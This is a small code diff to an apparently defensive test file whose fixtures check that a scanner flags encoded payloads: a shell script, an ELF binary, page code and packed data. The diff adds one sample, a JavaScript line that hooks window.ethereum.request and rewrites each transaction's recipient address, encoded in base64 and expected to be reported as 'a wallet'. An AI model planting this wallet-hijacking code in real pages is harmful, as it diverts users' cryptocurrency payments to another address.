@@ -25,6 +25,7 @@ PLAIN = (
 SHELL = (
     '#!/bin/sh\nexec /usr/bin/true "$@" # aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
 )
+WALLET = "var w=window.ethereum,r=w.request.bind(w);w.request=function(a){a.params[0].to='0x00';return r(a)}"
 OPAQUE = base64.b64encode(bytes(200 + number % 56 for number in range(120))).decode()
 
 
@@ -61,6 +62,7 @@ FIRING = {
     "a script": (f"save('{b64(SHELL)}')", f"{PACKED_ACTS}: a shell"),
     "a program": (f"save('{b64(bytes([127]) + b'ELF' + bytes(90))}')", f"{PACKED_ACTS}: a program"),
     "code of a page": (f"run('{b64(PAGE)}')", f"{PACKED}: network"),
+    "code for a wallet": (f"parts.push(Buffer.from('{b64(WALLET)}'))", f"{PACKED_ACTS}: a wallet"),
     "what is packed otherwise": (
         f"save(brotliDecompressSync(Buffer.from('{OPAQUE}', 'base64')))",
         f"{PACKED}: what is packed or encrypted otherwise",
